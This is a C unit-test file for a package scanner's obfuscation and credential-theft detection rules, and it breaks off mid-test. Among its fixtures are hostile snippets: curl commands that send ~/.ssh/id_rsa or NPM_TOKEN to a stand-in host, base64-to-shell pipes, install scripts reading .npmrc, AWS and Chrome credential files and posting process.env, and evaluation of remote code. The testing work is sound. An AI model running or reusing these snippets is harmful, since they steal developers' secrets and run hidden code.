/* Unit tests for the file-content analysers: per rule, malicious-looking snippets written for
 * this project and benign look-alikes (minified code, data URIs, lookup tables, bundles). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "guards/deps/content.h"
#include "guards/deps/prefilter.h"

static const char iocs[] = "# version: 2026-01-01.1\n"
                           "# test corpus\n"
                           "domain\tevil-c2.example.net\ttest incident A\n"
                           "domain\tdrop.example.org\ttest incident B\n"
                           "url\thttps://hooks.example.com/abc123-def\ttest incident C\n"
                           "sha256\t"
                           "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
                           "\ttest incident D\n";

struct got {
    size_t n;
    char rule[16][16];
    enum deps_severity sev[16];
    uint32_t line[16];
    char msg[16][256];
};

static void on_hit(void *ud, const struct deps_content_hit *hit)
{
    struct got *g = ud;

    assert_non_null(hit->rule_id);
    assert_non_null(hit->message);
    assert_true(strlen(hit->message) < 240);
    assert_null(strchr(hit->message, '\n'));
    if (g->n < 16) {
        snprintf(g->rule[g->n], sizeof(g->rule[0]), "%s", hit->rule_id);
        g->sev[g->n] = hit->severity;
        g->line[g->n] = hit->line;
        snprintf(g->msg[g->n], sizeof(g->msg[0]), "%s", hit->message);
    }
    g->n++;
}

static struct deps_content_db *db;

static int setup(void **state)
{
    char err[128];
    (void)state;
    if (deps_content_db_new(iocs, strlen(iocs), &db, err, sizeof(err)) != 0)
        return -1;
    deps_content_db_prefilter(db); /* from the first scan */
    return 0;
}

/* A file scanned as given and with DEPS_CONTENT_FULL (every file lexed): the lexer's
 * pre-filter must not change a hit. */
static void scan_both(const struct deps_content_db *d, const char *path, const char *text,
                      size_t len, unsigned flags, struct got *g)
{
    struct got full;

    memset(g, 0, sizeof(*g));
    memset(&full, 0, sizeof(full));
    assert_int_equal(deps_content_scan(d, path, text, len, flags, on_hit, g), 0);
    assert_int_equal(
        deps_content_scan(d, path, text, len, flags | DEPS_CONTENT_FULL, on_hit, &full), 0);
    if (memcmp(g, &full, sizeof(full)) != 0) {
        for (size_t i = 0; i < full.n && i < 16; i++)
            print_message("  full: %s sev %d line %u: %s\n", full.rule[i], full.sev[i],
                          full.line[i], full.msg[i]);
        fail_msg("%s: the lexer's pre-filter changes the hits (%zu, full %zu): %.80s", path, g->n,
                 full.n, text);
    }
}

static int teardown(void **state)
{
    (void)state;
    deps_content_db_free(db);
    return 0;
}

static struct got scan(const char *path, const char *text, size_t len, unsigned flags)
{
    struct got g;
    uint32_t last = 0;

    scan_both(db, path, text, len, flags, &g);
    for (size_t i = 0; i < g.n && i < 16; i++) {
        assert_true(g.line[i] >= last); /* line order */
        last = g.line[i];
    }
    return g;
}

/* `text` must produce a hit of `rule` with at least severity `min` on `line` (0: any). */
static void expect(const char *path, const char *text, unsigned flags, const char *rule,
                   enum deps_severity min, uint32_t line)
{
    struct got g = scan(path, text, strlen(text), flags);

    for (size_t i = 0; i < g.n && i < 16; i++)
        if (strcmp(g.rule[i], rule) == 0 && g.sev[i] >= min && (line == 0 || g.line[i] == line))
            return;
    for (size_t i = 0; i < g.n && i < 16; i++)
        print_message("  got %s sev %d line %u: %s\n", g.rule[i], g.sev[i], g.line[i], g.msg[i]);
    fail_msg("%s: no %s (sev >= %d, line %u) for: %.80s", path, rule, min, line, text);
}

/* `text` must produce no hit of `rule` at or above `min` (rule NULL: of any rule). */
static void clean(const char *path, const char *text, size_t len, unsigned flags, const char *rule,
                  enum deps_severity min)
{
    struct got g = scan(path, text, len, flags);

    for (size_t i = 0; i < g.n && i < 16; i++)
        if ((rule == NULL || strcmp(g.rule[i], rule) == 0) && g.sev[i] >= min)
            fail_msg("%s: unexpected %s sev %d line %u: %s", path, g.rule[i], g.sev[i], g.line[i],
                     g.msg[i]);
}

#define CLEAN(path, text, flags) clean(path, text, strlen(text), flags, NULL, DEPS_SEV_INFO)

static void test_db(void **state)
{
    struct deps_content_db *d = NULL;
    char err[128];
    static const struct {
        const char *tsv, *why;
    } bad[] = {
        {"domain\tEvil.com\tx\n", "iocs.tsv:1: domain may hold only"},
        {"domain\tcom\tx\n", "iocs.tsv:1: domain"},
        {"# c\nurl\tftp://x.example/aaaaa\tx\n", "iocs.tsv:2: url must start"},
        {"sha256\t0011\tx\n", "iocs.tsv:1: sha256 must be 64 hex digits"},
        {"ipv4\t1.2.3.4\tx\n", "iocs.tsv:1: unknown kind"},
        {"domain\ta.example.com\n", "iocs.tsv:1: expected kind"},
        {"domain\ta.example.com\tx\tmore\n", "iocs.tsv:1: more than 3"},
        {"domain\ta.example.com\tx\ndomain\ta.example.com\ty\n", "duplicate domain"},
    };

    (void)state;
    assert_int_equal(deps_content_db_new(iocs, strlen(iocs), &d, err, sizeof(err)), 0);
    assert_string_equal(deps_content_db_version(d), "2026-01-01.1");
    assert_int_equal(deps_content_db_size(d), 4);
    deps_content_db_free(d);
    deps_content_db_free(NULL);
    assert_int_equal(deps_content_db_new("", 0, &d, err, sizeof(err)), 0);
    assert_int_equal(deps_content_db_size(d), 0);
    deps_content_db_free(d);
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        d = (struct deps_content_db *)1;
        assert_int_equal(deps_content_db_new(bad[i].tsv, strlen(bad[i].tsv), &d, err, sizeof(err)),
                         -EINVAL);
        assert_null(d);
        if (strstr(err, bad[i].why) == NULL)
            fail_msg("%s: error \"%s\", expected \"%s\"", bad[i].tsv, err, bad[i].why);
    }
    /* domains and URLs together are capped (one Hyperscan database); hashes are not */
    size_t cap = 40 * (DEPS_CONTENT_MAX_TEXT_IOCS + 2), k = 0;
    char *many = malloc(cap);
    assert_non_null(many);
    for (int i = 0; i < DEPS_CONTENT_MAX_TEXT_IOCS; i++)
        k += (size_t)snprintf(
            many + k, cap - k,
            i % 2 ? "domain\th%d.example.com\tx\n" : "url\thttps://u.example/%d\tx\n", i);
    k += (size_t)snprintf(many + k, cap - k, "sha256\t%064d\tx\n", 7);
    assert_int_equal(deps_content_db_new(many, k, &d, err, sizeof(err)), 0);
    assert_int_equal(deps_content_db_size(d), DEPS_CONTENT_MAX_TEXT_IOCS + 1);
    deps_content_db_free(d);
    k += (size_t)snprintf(many + k, cap - k, "domain\tone-more.example.com\tx\n");
    assert_int_equal(deps_content_db_new(many, k, &d, err, sizeof(err)), -EINVAL);
    assert_non_null(strstr(err, "iocs.tsv:20002: more than 20000 domain and url"));
    free(many);
    /* the shipped corpus parses */
    const char *src = getenv("WARDEN_SOURCE_DIR");
    if (src != NULL) {
        char path[512];
        snprintf(path, sizeof(path), "%s/rules/supply-chain/iocs.tsv", src);
        FILE *f = fopen(path, "rb");
        assert_non_null(f);
        char *buf = malloc(1 << 20);
        assert_non_null(buf);
        size_t n = fread(buf, 1, 1 << 20, f);
        fclose(f);
        assert_int_equal(deps_content_db_new(buf, n, &d, err, sizeof(err)), 0);
        assert_true(deps_content_db_size(d) >= 5);
        assert_true(strlen(deps_content_db_version(d)) >= 10);
        deps_content_db_free(d);
        free(buf);
    }
}

static void test_obfs1(void **state)
{
    (void)state;
    expect("index.js", "var a = 1;\neval(atob('Y29uc29sZS5sb2coMSk='));\n", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 2);
    expect("lib/x.js", "new Function(Buffer.from(p, 'base64').toString('utf8'))();", 0,
           "L2-OBFS-001", DEPS_SEV_HIGH, 1);
    expect("a.js", "eval(String.fromCharCode(99,111,110,115,111,108,101))", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 1);
    expect("a.js", "eval(unescape('%63%6f%6e%73%6f%6c%65'))", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 1);
    expect("a.js", "const vm = require('vm');\nvm.runInThisContext(Buffer.from(s, 'hex') + '')", 0,
           "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    /* through a variable */
    expect("a.js",
           "const payload = Buffer.from(data, 'base64').toString();\n\n"
           "function go() { eval(payload); }\n",
           0, "L2-OBFS-001", DEPS_SEV_HIGH, 3);
    /* a hidden module name */
    expect("a.js", "const cp = require(atob('Y2hpbGRfcHJvY2Vzcw=='));", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 1);
    /* install time raises it */
    expect("install.js", "eval(atob(x))", DEPS_CONTENT_INSTALL_TIME, "L2-OBFS-001",
           DEPS_SEV_CRITICAL, 1);
    /* script text: node -e '...' and node -e "..." */
    expect("", "node -e 'eval(atob(\"Y29uc29sZQ==\"))'", DEPS_CONTENT_SCRIPT_TEXT, "L2-OBFS-001",
           DEPS_SEV_CRITICAL, 0);
    expect("", "node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"",
           DEPS_CONTENT_SCRIPT_TEXT, "L2-OBFS-001", DEPS_SEV_CRITICAL, 0);

    /* benign look-alikes */
    CLEAN("a.js", "var g = Function('return this')();\nvar s = atob(x);\nconsole.log(s);\n", 0);
    CLEAN("a.js", "const q = decodeURIComponent(location.search);\nrequire('./' + name);\n", 0);
    CLEAN("a.js", "function load(p){ return require(decodeURIComponent(p)); }", 0);
    CLEAN("a.js", "// eval(atob(x)) in a comment\n/* eval(atob(y)) */\nvar a = 'eval(atob(z))';",
          0);
    /* minified: short names reused across scopes are not followed */
    CLEAN("m.min.js",
          "!function(e,t){var n=atob(e);t(n)}(a,b);function f(n){return new Function(n)}", 0);
    /* the decoder is in a callback, not the evaluated argument */
    CLEAN("a.js", "setTimeout(function(){ x = atob(y); }, 1); eval(code, () => atob(z));", 0);
    CLEAN("a.js", "var re = /eval\\(atob\\(/g; var d = a / b / c; eval(js)", 0);
    /* a method named by decoded text, called */
    expect("a.js",
           "var m = require('module');\nvar o = new m();\no[atob('X2NvbXBpbGU=')](src, 'x');\n", 0,
           "L2-OBFS-001", DEPS_SEV_HIGH, 3);
    /* names assembled from pieces */
    expect("a.js", "var cp = require('child_' + 'process');", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 1);
    expect("a.js", "x = 1;\nglobal['ev' + \"al\"](code);", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    CLEAN("a.js", "var m = require('./lib/' + 'index'); o['get' + 'Name'](); o['a' + b]();", 0);
    /* comments and lines between the pieces; three pieces; an empty one */
    expect("a.js", "var cp = require('child_' /* x */ + 'process');", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 1);
    expect("a.js", "var cp = require('child_' + // split\n  'proc' +\n/**/'ess');", 0,
           "L2-OBFS-001", DEPS_SEV_HIGH, 1);
    expect("a.js", "x = 1;\nthis['' + 'e' + 'v' + 'a' + 'l'](code);", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 2);
    /* every run of blanks and comments the pre-filter's short literals begin: what follows
     * the quote first (a '+', a comment, a space, a control blank, NUL) and after it */
    static const char *const gaps[] = {"+",         " +",        "  +",      "   \t +", "\t+",
                                       "\n+",       "\r\n    +", " \n+",     " \t\t+",  "/**/+",
                                       " /* x */+", "// x\n+",   " // x\n+", "\v\f+",   "  /**/ +"};
    for (size_t i = 0; i < sizeof(gaps) / sizeof(gaps[0]); i++) {
        char js[128];
        snprintf(js, sizeof(js), "x = 1;\nglobal['ev'%s'al'](code);", gaps[i]);
        expect("a.js", js, 0, "L2-OBFS-001", DEPS_SEV_HIGH, 0);
    }
    /* NUL, a blank outside script text (past the first 4 KiB, which would make it a binary) */
    static char nul[4200 + 64];
    memset(nul, ' ', 4200);
    const char tail[] = "global['ev'\0+'al'](code);";
    memcpy(nul + 4200, tail, sizeof(tail));
    struct got g = scan("a.js", nul, 4200 + sizeof(tail) - 1, 0);
    assert_true(g.n == 1 && strcmp(g.rule[0], "L2-OBFS-001") == 0);
    /* literals side by side do not join (a syntax error, not concatenation) */
    CLEAN("a.js", "var cp = require('child_' 'process');", 0);
    /* "" + "name" makes a string of a whole name (TypeScript 4.9's keyword table): not pieces */
    CLEAN("tsc.js", "var _a;\n_a = {}, _a[\"\" + \"constructor\"] = 135, o['' + 'eval'](x);", 0);
    /* a name given to require is called through it; a method of that name is another function
     * (@vue/compiler-sfc: `load = require` as a default parameter, `this.core.load(...)`) */
    expect("a.js", "var load = require;\nvar m = load(atob('Y2hpbGRfcHJvY2Vzcw=='));", 0,
           "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    CLEAN("a.js",
          "const scss = (src, load = require) => load('sass');\n"
          "const trace = t || String.fromCharCode(this.importNr++);\n"
          "const r = await this.core.load(source, trace);\n",
          0);
    /* the encoding as a template's last piece; URI-decoded text evaluated */
    expect("a.js", "var s = Buffer.from(d, `${'he'}hex`).toString();\neval(s);\n", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 2);
    expect("a.js", "eval (/* run */ unescape(payload));", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 1);
    /* a key from a key code picks a handler: ordinary */
    CLEAN("keys.js", "function onKey(e){var k=String.fromCharCode(e.which);handlers[k](e);}", 0);
}

/* Where the lexer's fast paths (runs of blanks, of string characters, of name characters,
 * comment ends) meet the rules: lines counted through comments and templates, names of any
 * length, escapes after a long plain run, a NUL byte between tokens, the end of the buffer. */
static void test_lexer_edges(void **state)
{
    (void)state;
    /* a block comment with stars and newlines inside: the hit is on line 5 */
    expect(
        "a.js",
        "/* one\n * two ** three *\n four */\nvar payload = Buffer.from(d, 'base64').toString();\n"
        "eval(payload);\n",
        0, "L2-OBFS-001", DEPS_SEV_HIGH, 5);
    /* a template literal over two lines, then a long run of blanks and newlines */
    expect("a.js", "var t = `a\nb ${x} c`;\n\n        \t  \n  eval(atob(y));\n", 0, "L2-OBFS-001",
           DEPS_SEV_HIGH, 5);
    /* names of 8, 9 and 33 characters, and one that ends the buffer */
    expect("a.js", "abcdefgh = atob(x);\neval(abcdefgh);", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    expect("a.js", "abcdefghi = atob(x);\neval(abcdefghi);", 0, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    expect(
        "a.js",
        "averyveryverylongname_1234567_xyz = atob(x);\n\neval(averyveryverylongname_1234567_xyz)",
        0, "L2-OBFS-001", DEPS_SEV_HIGH, 3);
    CLEAN("a.js", "var evaluate = atob(x); evaluate(y); eval", 0);
    /* 24 escapes after a long run of plain characters in the same literal */
    expect("a.js",
           "\n\nvar s = 'plain text plain text plain text "
           "\\x72\\x65\\x71\\x75\\x69\\x72\\x65\\x28\\x27\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\"
           "x6f\\x63\\x65\\x73\\x73\\x27\\x29';",
           0, "L2-OBFS-002", DEPS_SEV_HIGH, 3);
    /* an unterminated block comment hides the rest */
    CLEAN("a.js", "var a = 1; /* eval(atob(x))\n", 0);
    /* a string cut short by its line's end has no closing quote: its last byte is text
     * ("base64;" is no encoding name, "x.md`" no file name) */
    CLEAN("a.js", "var s = Buffer.from(d, \"base64;\n\").toString();\neval(s);\n", 0);
    CLEAN("a.js", "require('./lib/`README.md`\n);\n", 0);
    CLEAN("a.js", "var s = Buffer.from(d, 'base64\\'\n);\neval(s);\n", 0);
    expect("a.js", "var s = Buffer.from(d, 'base64');\neval(s);\n", 0, "L2-OBFS-001", DEPS_SEV_HIGH,
           2);
    /* a NUL byte past the first 4 KiB (before it, the file is taken as binary) is a blank */
    static char buf[4200];
    memset(buf, ' ', sizeof(buf));
    buf[4100] = '\0';
    memcpy(buf + 4101, "eval(atob(x))", 13);
    struct got g = scan("a.js", buf, 4114, 0);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.rule[0], "L2-OBFS-001");
}

static void test_obfs2(void **state)
{
    (void)state;
    expect("a.js",
           "var a = '\\x72\\x65\\x71\\x75\\x69\\x72\\x65';\n"
           "var b = '\\x63\\x68\\x69\\x6c\\x64';\nvar c = \"\\u0065\\u0078\\u0065\\u0063\";\n",
           0, "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    expect("a.js",
           "x = '\\162\\145\\161\\165\\151\\162\\145\\050\\042\\150\\164\\164\\160\\163\\042\\051"
           "\\056\\147\\145\\164\\050\\042\\150\\164\\164\\160\\163\\072\\057\\057';",
           0, "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    expect("a.js",
           "var k = [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101];\n"
           "var u = k.map(function (c) { return String.fromCharCode(c); }).join('');\n",
           0, "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    /* the first and last printable characters, in each form of escape: the pre-filter lets
     * each file through on its own (scan_both compares) */
    expect("a.js",
           "a = '\\x20\\x7e\\x20\\x7e'; b = '\\x20\\x7e\\x20\\x7e'; c = '\\x7E\\x20\\x7e\\x20';", 0,
           "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    expect("a.js",
           "a = '\\u0020\\u007e\\u0020\\u007e'; b = '\\u0020\\u007E\\u0020\\u007e';\n"
           "c = '\\u0020\\u007e\\u0020\\u007e';",
           0, "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    expect("a.js",
           "a = '\\040\\176\\040\\176'; b = '\\040\\176\\040\\176'; c = '\\040\\176\\040\\176';", 0,
           "L2-OBFS-002", DEPS_SEV_HIGH, 1);
    /* benign: non-ASCII escapes (Unicode tables), ANSI colours, one escaped character */
    CLEAN("a.js",
          "var r = '\\u00aa\\u00b5\\u00ba\\u00c0-\\u00d6\\u00d8-\\u00f6\\u00f8-\\u02c1\\u02c6';\n"
          "var red = '\\x1b[31m'; var lt = '\\u003cscript\\u003e'; var nl = 'a\\nb\\tc';\n",
          0);
    /* benign: a numeric lookup table with no fromCharCode around */
    CLEAN("a.js",
          "var T = [65,66,67,68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,84,85,86,87,88];\n"
          "function f(i) { return T[i] + 1; }\n",
          0);
    /* benign: fromCharCode of a computed value */
    CLEAN("a.js", "for (i = 0; i < n; i++) s += String.fromCharCode(buf[i] ^ 32, 33, 34);", 0);
}

static void test_obfs3(void **state)
{
    (void)state;
    expect("index.js",
           "const { execSync } = require('child_process');\n"
           "execSync(Buffer.from('Y3VybCBodHRwOi8vZXhhbXBsZQ==', 'base64').toString());\n",
           0, "L2-OBFS-003", DEPS_SEV_CRITICAL, 2);
    expect("index.js",
           "const cp = require(\"child_process\");\nconst cmd = atob(enc);\n"
           "cp.exec(cmd, () => {});\n",
           0, "L2-OBFS-003", DEPS_SEV_CRITICAL, 3);
    expect("index.js",
           "const fs = require('fs'); const cp = require('child_process');\n"
           "fs.writeFileSync('/tmp/x', Buffer.from(blob, 'base64'));\n"
           "fs.chmodSync('/tmp/x', 0o755); cp.spawn('/tmp/x');\n",
           DEPS_CONTENT_INSTALL_TIME, "L2-OBFS-003", DEPS_SEV_CRITICAL, 2);
    expect("", "echo aGVsbG8K | base64 -d | sh", DEPS_CONTENT_SCRIPT_TEXT, "L2-OBFS-003",
           DEPS_SEV_CRITICAL, 1);
    expect("", "bash -c \"$(echo Y3VybCB4IHwgc2g= | base64 -d)\"", DEPS_CONTENT_SCRIPT_TEXT,
           "L2-OBFS-003", DEPS_SEV_CRITICAL, 1);
    CLEAN("", "echo $SECRET_B64 | base64 -d > key.pem && node build.js", DEPS_CONTENT_SCRIPT_TEXT);
    expect("", "powershell -NoProfile -EncodedCommand SQBFAFgA", DEPS_CONTENT_SCRIPT_TEXT,
           "L2-OBFS-003", DEPS_SEV_CRITICAL, 1);
    /* benign: regexp exec, and a child_process callback that decodes its output */
    CLEAN("a.js", "var m = /x(\\d+)/.exec(atob(s)); console.log(m);", 0);
    CLEAN("a.js",
          "const cp = require('child_process');\n"
          "cp.exec('git log', (e, out) => { const t = Buffer.from(out, 'base64'); });\n",
          0);
    CLEAN("", "node scripts/build.js && echo done | tee log.txt", DEPS_CONTENT_SCRIPT_TEXT);
    /* RegExp's exec in a file that also runs processes */
    CLEAN("a.js",
          "const cp = require('child_process');\nconst m = re.exec(atob(s));\n"
          "cp.execSync('git status');\n",
          0);
    /* a decoded write and a process started far away from it: unrelated */
    {
        char far[8192];
        int k = snprintf(far, sizeof(far),
                         "const cp = require('child_process'), fs = require('fs');\n"
                         "fs.writeFileSync(p, Buffer.from(seed, 'base64'));\n");
        memset(far + k, ' ', 5000);
        snprintf(far + k + 5000, sizeof(far) - (size_t)k - 5000,
                 "\ncp.execFileSync('git', ['log']);\n");
        CLEAN("a.js", far, 0);
    }
    /* a property assigned from decoded data is not a tainted variable */
    CLEAN("a.js",
          "this.auth = Buffer.from(pw, 'base64').toString();\n"
          "const cp = require('child_process'); cp.exec(auth);\n",
          0);
}

/* A long base64 string of random-looking bytes (deterministic). */
static char *b64_blob(size_t n, const char *prefix)
{
    static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *s = malloc(n + 1);
    uint32_t x = 2463534242u;
    size_t k = strlen(prefix);

    assert_non_null(s);
    memcpy(s, prefix, k);
    for (size_t i = k; i < n; i++) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        s[i] = al[x % 64];
    }
    s[n] = '\0';
    return s;
}

/* Ordinary bundle code up to `to` bytes of out. */
static size_t bundle_filler(char *out, size_t m, size_t to)
{
    while (m < to)
        m += (size_t)snprintf(out + m, 128, "exports.f%zu = function (a) { return a + %zu; };\n", m,
                              m);
    return m;
}

/* L2-OBFS-004 in a file over 256 KiB: the string and the code generator are paired only
 * within 64 KiB of each other. */
static void test_obfs4_bundle(void)
{
    static const char pay[] =
        "const p = '%s';\nconst code = Buffer.from(p, 'base64').toString();\n";
    size_t cap = 512 * 1024, m = 0;
    char *big = malloc(cap), *blob = b64_blob(4096, "");
    uint32_t line = 1;

    assert_non_null(big);
    /* far apart: LOW */
    m += (size_t)snprintf(big + m, cap - m, pay, blob);
    m = bundle_filler(big, m, 300 * 1024);
    m += (size_t)snprintf(big + m, cap - m, "new Function(code)();\n");
    expect("dist/bundle.js", big, 0, "L2-OBFS-004", DEPS_SEV_LOW, 1);
    clean("dist/bundle.js", big, m, 0, "L2-OBFS-004", DEPS_SEV_MEDIUM);
    /* the generator a few lines after the string, deep in the bundle: HIGH at the string */
    m = bundle_filler(big, 0, 200 * 1024);
    for (size_t i = 0; i < m; i++)
        line += big[i] == '\n';
    m += (size_t)snprintf(big + m, cap - m, pay, blob);
    m = bundle_filler(big, m, m + 8 * 1024);
    m += (size_t)snprintf(big + m, cap - m, "new Function(code)();\n");
    m = bundle_filler(big, m, 400 * 1024);
    expect("dist/bundle.js", big, 0, "L2-OBFS-004", DEPS_SEV_HIGH, line);
    /* a generator before the string counts as well */
    m = bundle_filler(big, 0, 200 * 1024);
    m += (size_t)snprintf(big + m, cap - m, "module.exports = (s) => new Function(s);\n");
    m += (size_t)snprintf(big + m, cap - m, pay, blob);
    m = bundle_filler(big, m, 400 * 1024);
    expect("dist/bundle.js", big, 0, "L2-OBFS-004", DEPS_SEV_HIGH, line + 1);
    /* strings inside the evaluation's argument, the last one far from its name */
    m = bundle_filler(big, 0, 200 * 1024);
    m += (size_t)snprintf(big + m, cap - m,
                          "new Function(Buffer.from('%s', 'base64').toString() + /*", blob);
    memset(big + m, ' ', 80 * 1024);
    m += 80 * 1024;
    m +=
        (size_t)snprintf(big + m, cap - m, "*/ Buffer.from('%s', 'base64').toString())();\n", blob);
    big[m] = '\0';
    expect("dist/bundle.js", big, 0, "L2-OBFS-004", DEPS_SEV_HIGH, line);
    free(blob);
    free(big);
}

static void test_obfs4(void **state)
{
    char *text = malloc(64 * 1024), *blob;
    size_t n = 0;

    (void)state;
    assert_non_null(text);
    /* javascript-obfuscator style */
    n += (size_t)snprintf(text + n, 1024,
                          "var _0x3a1f=['log','push','shift','Hello'];(function(_0x2d8f05,"
                          "_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){"
                          "_0x2d8f05['push'](_0x2d8f05['shift']());}};}(_0x3a1f,0x1b3));\n");
    for (int i = 0; i < 12; i++)
        n += (size_t)snprintf(
            text + n, 256, "var _0x%04x=function(_0x%04x,_0x1c2d3e){return _0x3a1f[_0x%04x];};\n",
            0x1000 + i, 0x2000 + i, 0x2000 + i);
    expect("index.js", text, 0, "L2-OBFS-004", DEPS_SEV_HIGH, 1);
    /* newer style: push/shift hidden behind the decoder, a parseInt checksum loop */
    n = (size_t)snprintf(text, 1024,
                         "(function(_0x1f2e3d,_0x4c5b6a){const _0x2a3b4c=_0x5d6e;while(!![]){try{"
                         "const _0x3c4d5e=parseInt(_0x2a3b4c(0x1a2))/0x1+-parseInt(_0x2a3b4c("
                         "0x1b3))/0x2*(parseInt(_0x2a3b4c(0x1c4))/0x3);if(_0x3c4d5e===_0x4c5b6a)"
                         "break;else _0x1f2e3d[_0x2a3b4c(0x1d5)](_0x1f2e3d[_0x2a3b4c(0x1e6)]());}"
                         "catch(_0x5e6f7a){_0x1f2e3d[_0x2a3b4c(0x1d5)](_0x1f2e3d[_0x2a3b4c(0x1e6)]"
                         "());}}}(_0x6f7a8b,0x2b7c1));\n");
    expect("index.js", text, 0, "L2-OBFS-004", DEPS_SEV_HIGH, 1);
    /* a queue's push/shift without _0x names is ordinary code */
    CLEAN("q.js", "while (q.length) { out.push(q.shift()); }\nvar _0xab = 1;\n", 0);

    /* a long random payload decoded at run time and evaluated */
    blob = b64_blob(4096, "");
    snprintf(text, 64 * 1024,
             "const p = '%s';\nconst code = Buffer.from(p, 'base64').toString();\n"
             "new Function(code)();\n",
             blob);
    expect("index.js", text, 0, "L2-OBFS-004", DEPS_SEV_HIGH, 1);
    /* the same literal as an image data URI, or wasm, or only decoded: clean */
    snprintf(text, 64 * 1024, "const img = 'data:image/png;base64,%s';\nnew Function(x)();\n",
             blob);
    CLEAN("index.js", text, 0);
    free(blob);
    blob = b64_blob(4096, "AGFzbQEAAAA");
    snprintf(text, 64 * 1024,
             "const w = '%s';\nconst m = new WebAssembly.Module(Buffer.from(w, 'base64'));\n"
             "module.exports = Function('return this')();\n",
             blob);
    CLEAN("wasm.js", text, 0);
    free(blob);
    blob = b64_blob(4096, "");
    snprintf(text, 64 * 1024, "const table = Buffer.from('%s', 'base64');\nexports.t = table;\n",
             blob);
    CLEAN("table.js", text, 0);
    free(blob);
    free(text);
    test_obfs4_bundle();
}

static void test_cred(void **state)
{
    const char *steal = "const fs = require('fs'), os = require('os');\n"
                        "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                        "const k = process.env.NPM_TOKEN;\n";
    char both[1024];

    (void)state;
    expect("postinstall.js", steal, DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_HIGH, 2);
    snprintf(both, sizeof(both), "%sconst https = require('https');\nhttps.request(o).end(t);\n",
             steal);
    expect("postinstall.js", both, DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_CRITICAL, 2);
    expect("setup.js", "fetch(u, { method: 'POST', body: JSON.stringify(process.env) });",
           DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_CRITICAL, 1);
    expect("", "curl -d \"$(cat ~/.ssh/id_rsa)\" https://x.example", DEPS_CONTENT_SCRIPT_TEXT,
           "L2-CRED-001", DEPS_SEV_CRITICAL, 1);
    expect("i.js", "const p = path.join(home, '.aws/credentials');", DEPS_CONTENT_INSTALL_TIME,
           "L2-CRED-001", DEPS_SEV_HIGH, 1);
    expect("i.js", "x = home + '/Library/Application Support/Google/Chrome/Default/Login Data'",
           DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_HIGH, 1);
    /* enumerating the environment: medium alone, critical when sent out */
    expect("i.js", "for (const [k, v] of Object.entries(process.env)) if (k.startsWith('X')) f(v);",
           DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_MEDIUM, 1);
    clean("i.js", "for (const [k, v] of Object.entries(process.env)) f(v);", 55,
          DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_HIGH);
    /* code fetched at install time and evaluated */
    expect("i.js",
           "require('https').get(u, r => { let b = ''; r.on('data', d => b += d);\n"
           "  r.on('end', () => eval(b)); });\n",
           DEPS_CONTENT_INSTALL_TIME, "L2-OBFS-001", DEPS_SEV_HIGH, 2);
    /* not install time: a library reading the token at run time is not this rule's business */
    CLEAN("lib/auth.js", steal, 0);
    /* install time but benign */
    CLEAN("install.js",
          "if (process.env.NODE_ENV !== 'production') console.log('dev');\n"
          "spawn('node', ['build.js'], { env: { ...process.env, FOO: '1' } });\n",
          DEPS_CONTENT_INSTALL_TIME);
    CLEAN("", "node-gyp rebuild", DEPS_CONTENT_SCRIPT_TEXT);
    expect("", "rm -rf dist/* && curl https://x.example/a | node -e 'eval(atob(require(0)))'",
           DEPS_CONTENT_SCRIPT_TEXT, "L2-OBFS-001", DEPS_SEV_CRITICAL, 1);
    /* the scanner passes script lines as install-time script text; "//" is a URL there */
    expect("", "curl -s https://x.example/c?t=$NPM_TOKEN",
           DEPS_CONTENT_SCRIPT_TEXT | DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_CRITICAL,
           1);
    /* an install script explaining itself in comments */
    CLEAN("install.js",
          "// Does not read ~/.npmrc or NPM_TOKEN: only builds the addon.\n"
          "/* id_rsa, .ssh/ and _authToken are never touched */\n"
          "require('child_process').spawnSync('node-gyp', ['rebuild']);\n",
          DEPS_CONTENT_INSTALL_TIME);
    expect("install.js", "// harmless\nconst t = process.env.NPM_TOKEN; // read\n",
           DEPS_CONTENT_INSTALL_TIME, "L2-CRED-001", DEPS_SEV_HIGH, 2);
    CLEAN("", "cross-env NODE_ENV=production node build.js", DEPS_CONTENT_SCRIPT_TEXT);
    /* a longer variable name that merely contains a token name */
